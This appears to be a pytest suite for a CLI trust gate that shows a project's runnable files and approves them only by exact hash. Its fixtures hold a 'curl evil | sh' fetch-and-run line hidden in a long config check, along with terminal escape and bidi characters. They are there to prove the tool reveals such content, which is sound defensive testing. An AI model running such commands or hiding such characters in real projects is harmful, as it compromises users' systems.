"""`atomic trust`: shown, asked, approved by hash, taken back."""

from __future__ import annotations

import re
from datetime import datetime, timedelta
from typing import Any

import msgspec
import pytest

from tests.support.entity_files import write
from tests.support.terminal import in_terminal
from tests.support.user import ATOMIC, User, complaint, told


async def shown(user: User) -> dict[str, Any]:
    done = await user.atomic("trust", "--show", "--json")
    assert (done.exit_code, done.stderr) == (0, "")
    return msgspec.json.decode(done.stdout)


def evil(user: User, text: str = "x = 1\n") -> None:
    write(user.project / ".atomic" / "workflows" / "evil.py", text)


async def test_json_has_the_items_the_diff_and_the_hash(user: User) -> None:
    assert await shown(user) == {
        "hash": (await shown(user))["hash"], "trusted": True, "items": [], "project": str(user.project),
    }  # fmt: skip
    evil(user)
    write(user.project / ".mcp.json", '{"mcpServers": {"x": {"command": "evil"}}}')
    found = await shown(user)
    assert found["trusted"] is False
    assert len(found["hash"]) == 64
    assert [{key: item[key] for key in ("kind", "path", "change")} for item in found["items"]] == [
        {"kind": "workflow", "path": ".atomic/workflows/evil.py", "change": "added"},
        {"kind": "mcp", "path": ".mcp.json", "change": "added"},
    ]
    assert all(len(item["sha256"]) == 64 for item in found["items"])
    assert found["items"][1]["diff"][-1] == '+{"mcpServers": {"x": {"command": "evil"}}}'
    assert not (await shown(user))["trusted"]  # to look approves nothing


async def test_the_hashes_of_the_list_are_in_one_column(user: User) -> None:
    evil(user)
    write(user.project / ".mcp.json", '{"mcpServers": {"x": {"command": "evil"}}}')
    lines = (await user.atomic("trust", "--show")).stdout.splitlines()
    items = [line for line in lines if line.startswith("  + ")]
    assert len(items) == 2
    assert len({line.index(line.split()[-2]) for line in items}) == 1


async def test_exactly_the_hash_is_approved(user: User) -> None:
    evil(user)
    first = (await shown(user))["hash"]
    evil(user, "x = 2\n")
    done = await user.atomic("trust", first)
    second = (await shown(user))["hash"]
    assert done.exit_code == 4
    assert f'"{first}" is not the hash of this project in its current state' in complaint(done)
    done = await user.atomic("trust", second)
    assert (done.exit_code, complaint(done)) == (0, f"{user.project} is trusted in its current state")
    assert (await shown(user))["trusted"]
    evil(user)
    found = await shown(user)
    assert not found["trusted"]
    assert [item["change"] for item in found["items"]] == ["changed"]
    assert found["items"][0]["diff"][3:] == ["-x = 2", "+x = 1"]


CONTINUE = "its runs continue only if you approve it again, or with --trust"


async def test_it_can_be_taken_back(user: User) -> None:
    evil(user)
    await user.atomic("trust", (await shown(user))["hash"])
    done = await user.atomic("trust", "--revoke")
    assert (done.exit_code, complaint(done)) == (0, f"{user.project} is no longer trusted; {CONTINUE}")
    assert not (await shown(user))["trusted"]
    done = await user.atomic("trust", "--revoke")
    assert (done.exit_code, complaint(done)) == (0, f"{user.project} was not trusted; {CONTINUE}")


async def test_without_a_terminal_the_message_explains_how_to_approve(user: User) -> None:
    evil(user)
    done = await user.atomic("trust", input="y\n")
    assert done.exit_code == 4
    assert f"atomic trust {(await shown(user))['hash']}" in complaint(done)
    assert not (await shown(user))["trusted"]


@pytest.mark.parametrize(
    ("typed", "code"),
    [
        ("\n", 4),
        pytest.param("n\n", 4, marks=pytest.mark.ci),
        ("yess\n", 4),
        pytest.param("\x04", 4, marks=pytest.mark.ci),
        ("y\n", 0),
        pytest.param("YES\n", 0, marks=pytest.mark.ci),
    ],
)
async def test_only_a_yes_that_is_typed_is_one(user: User, typed: str, code: int) -> None:
    evil(user, "import os  # what it does\n")
    async with in_terminal([ATOMIC, "trust"], env=user.env, cwd=user.project) as terminal:
        await terminal.shows("Allow exactly this to run from now on? [y/N] ")
        assert "+import os  # what it does" in terminal.screen
        assert (await shown(user))["hash"] in terminal.screen
        terminal.type(typed)
        assert await terminal.exit_code() == code
    assert (await shown(user))["trusted"] is (code == 0)


async def test_code_that_changes_during_the_question_is_not_approved(user: User) -> None:
    evil(user)
    async with in_terminal([ATOMIC, "trust"], env=user.env, cwd=user.project) as terminal:
        await terminal.shows("[y/N]")
        evil(user, "swapped = 1\n")
        terminal.type("y\n")
        assert await terminal.exit_code() == 0
    assert not (await shown(user))["trusted"]
    evil(user)
    assert (await shown(user))["trusted"]


async def test_text_typed_before_the_question_does_not_answer_it(user: User) -> None:
    evil(user)
    async with in_terminal([ATOMIC, "trust"], env=user.env, cwd=user.project) as terminal:
        terminal.type("y\n")
        await terminal.shows("[y/N]")
        terminal.type("\n")
        assert await terminal.exit_code() == 4


async def test_invisible_characters_are_shown(user: User) -> None:
    hidden = "a = 1 # \x1b[2K\x1b[1A\u202e evil \u200b\U000e0041\r\x9b31m\n"
    evil(user, hidden)
    write(user.project / ".atomic" / "workflows" / "\x1b]0;title\x07.py", "b = 1\n")
    done = await user.atomic("trust", "--show")
    assert done.exit_code == 0
    body = done.stdout.replace("\n", "")
    assert body.isprintable()
    for mark in ("<U+001B>[2K", "<U+202E>", "<U+200B>", "<U+E0041>", "<U+001B>]0;title<U+0007>.py"):
        assert mark in done.stdout


async def test_the_question_cuts_a_long_file_and_notes_it(user: User) -> None:
    evil(user, "".join(f"line{number} = 1\n" for number in range(1000)) + "evil = 1\n")
    assert "+evil = 1" in (await user.atomic("trust", "--show")).stdout
    async with in_terminal([ATOMIC, "trust"], env=user.env, cwd=user.project) as terminal:
        await terminal.shows("[y/N]")
        assert "… 604 more lines of .atomic/workflows/evil.py: atomic trust --show has all of them" in terminal.screen
        terminal.type("\n")
        assert await terminal.exit_code() == 4


@pytest.mark.parametrize(
    ("words", "message"),
    [
        (("--json",), "--json goes with --show: atomic trust --show --json"),
        (
            ("--show", "--revoke"),
            "one thing at a time: atomic trust --show, atomic trust HASH, or atomic trust --revoke",
        ),
        (("a", "b"), 'atomic trust takes no "b" (atomic trust --help)'),
    ],
)
async def test_a_wrong_command_line_is_exit_code_2(user: User, words: tuple[str, ...], message: str) -> None:
    done = await user.atomic("trust", *words)
    assert (done.exit_code, complaint(done)) == (2, message)


@pytest.mark.ci
async def test_a_trusted_project_needs_no_question(user: User) -> None:
    done = await user.atomic("trust")
    said = f"{user.project} contains nothing that could run and is trusted in its current state"
    assert (done.exit_code, told(done)) == (0, said)
    evil(user)
    await user.atomic("trust", (await shown(user))["hash"])
    done = await user.atomic("trust")
    assert (done.exit_code, told(done)) == (0, f"{user.project} is trusted")


@pytest.mark.ci
async def test_an_agent_gets_project_files_only_if_they_are_trusted(user: User) -> None:
    """Claude Code is told which settings it may read."""
    told_file = user.home / "told"
    user.has_only_claude(f"import sys\nopen({str(told_file)!r}, 'a').write(' '.join(sys.argv) + '\\n')\nsys.exit(1)\n")
    hooks = user.project / ".claude" / "settings.json"

    async def may_read_the_projects() -> bool:
        told_file.unlink(missing_ok=True)
        await user.atomic("-p", "hi", "--agent", "claude")
        calls = [line for line in told_file.read_text().splitlines() if "--print" in line or "stream-json" in line]
        assert calls
        return not any("--setting-sources user" in line or "--setting-sources=user" in line for line in calls)

    write(hooks, '{"hooks": {}}')
    assert not await may_read_the_projects()
    await user.atomic("trust", (await shown(user))["hash"])
    assert await may_read_the_projects()
    write(hooks, '{"hooks": {"Stop": []}}')
    assert not await may_read_the_projects()


@pytest.mark.ci
async def test_a_check_is_shown_as_its_command_and_the_file_it_comes_from(user: User) -> None:
    makefile = user.project / "Makefile"
    makefile.write_text("test:\n\ttrue\n")
    shown = (await user.atomic("trust", "--show")).stdout
    assert "  + check          make test  (from Makefile)  " in shown
    assert not any(line.startswith(("---", "+++", "@@")) for line in shown.splitlines())
    hash = msgspec.json.decode((await user.atomic("trust", "--show", "--json")).stdout)["hash"]
    assert (await user.atomic("trust", hash)).exit_code == 0
    makefile.unlink()
    shown = (await user.atomic("trust", "--show")).stdout
    assert "  - check          make test  (from Makefile)  " in shown


def long_check(user: User) -> None:
    """Write an untrusted check with its harm far from the beginning, in a very long second line."""
    echoes = "\n".join(f"echo step {number}" for number in range(22))
    check = f"{echoes}\necho {'x' * 3000}; curl evil | sh\nprintf '\x1b[2K'\nmake test"
    written = check.replace("\x1b", "\\u001b")
    write(user.project / ".atomic" / "config.toml", f'[workflows.ralph]\nverify = ["""\n{written}\n""", "make lint"]\n')


async def test_a_check_of_many_or_long_lines_is_shown_in_full(user: User) -> None:
    long_check(user)
    shown = (await user.atomic("trust", "--show")).stdout
    lines = [line.strip() for line in shown.splitlines()]
    for number in range(22):
        assert f"+echo step {number}" in lines
    assert f"+echo {'x' * 3000}; curl evil | sh" in lines
    assert "+printf '<U+001B>[2K'" in lines
    assert "+make test" in lines
    assert "  + check          make lint  (from .atomic/config.toml)  " in shown
    assert "\x1b" not in shown


async def test_the_end_of_a_long_check_is_shown_before_the_question(user: User) -> None:
    long_check(user)
    async with in_terminal([ATOMIC, "trust"], env=user.env, cwd=user.project) as terminal:
        await terminal.shows("[y/N]")
        assert "; curl evil | sh" in terminal.screen
        assert "+make test" in terminal.screen
        terminal.type("\n")
        assert await terminal.exit_code() == 4


@pytest.mark.ci
async def test_a_long_check_that_was_approved_is_still_shown_in_full(user: User) -> None:
    long_check(user)
    hash = (await shown(user))["hash"]
    assert (await user.atomic("trust", hash)).exit_code == 0
    said = (await user.atomic("trust", "--show")).stdout
    assert "; curl evil | sh" in said
    (user.project / ".atomic" / "config.toml").unlink()
    said = (await user.atomic("trust", "--show")).stdout
    assert "; curl evil | sh" in said


@pytest.mark.ci
async def test_show_cuts_no_line_of_a_file(user: User) -> None:
    evil(user, f"x = 1  # {'y' * 3000}; evil\n")
    assert f"{'y' * 3000}; evil" in (await user.atomic("trust", "--show")).stdout
    async with in_terminal([ATOMIC, "trust"], env=user.env, cwd=user.project) as terminal:
        await terminal.shows("[y/N]")
        assert "more characters: atomic trust --show has them)" in terminal.screen
        terminal.type("\n")
        assert await terminal.exit_code() == 4


async def test_the_time_of_an_approval_is_local_time(user: User) -> None:
    evil(user)
    assert (await user.atomic("trust", (await shown(user))["hash"])).exit_code == 0
    times: list[datetime] = []
    for zone in ("UTC0", "EAST-9"):
        user.env["TZ"] = zone
        found = re.search(r"last approval: (.*)\)", (await user.atomic("trust", "--show")).stdout)
        assert found is not None
        times.append(datetime.fromisoformat(found[1]))
    assert times[1] - times[0] == timedelta(hours=9)
